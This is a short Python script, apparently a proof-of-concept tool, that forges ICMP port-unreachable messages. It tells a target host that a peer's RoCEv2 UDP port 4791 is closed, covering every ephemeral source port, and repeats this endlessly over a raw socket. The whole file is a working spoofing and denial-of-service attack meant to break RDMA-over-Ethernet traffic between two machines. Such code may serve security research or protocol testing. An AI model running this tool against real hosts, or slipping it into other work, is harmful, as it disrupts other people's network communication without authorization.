# SPDX-License-Identifier: Apache-2.0
"""`forged_icmp.py SENDER PEER`: sends ICMP messages to SENDER, again and again, that no process at
PEER has UDP port 4791, about a datagram from each UDP port of SENDER that its kernel may have
chosen. Needs CAP_NET_RAW; prints a line for each round through the ports.
"""

import socket
import struct
import sys

ROCE_PORT = 4791
PORTS = range(32768, 61000)
PORT_UNREACHABLE = (3, 3)


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def message(sender: str, peer: str, port: int) -> bytes:
    addresses = socket.inet_aton(sender) + socket.inet_aton(peer)
    udp = struct.pack("!4H", port, ROCE_PORT, 64, 0)
    quoted = struct.pack("!BBHHHBBH", 0x45, 0, 84, 0, 0x4000, 64, socket.IPPROTO_UDP, 0) + addresses + udp
    kind = struct.pack("!BB", *PORT_UNREACHABLE)
    rest = bytes(4) + quoted
    return kind + struct.pack("!H", checksum(kind + bytes(2) + rest)) + rest


def main() -> None:
    sender, peer = sys.argv[1:3]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    messages = [message(sender, peer, port) for port in PORTS]
    while True:
        for each in messages:
            raw.sendto(each, (sender, 0))
        print("round", flush=True)


if __name__ == "__main__":
    main()
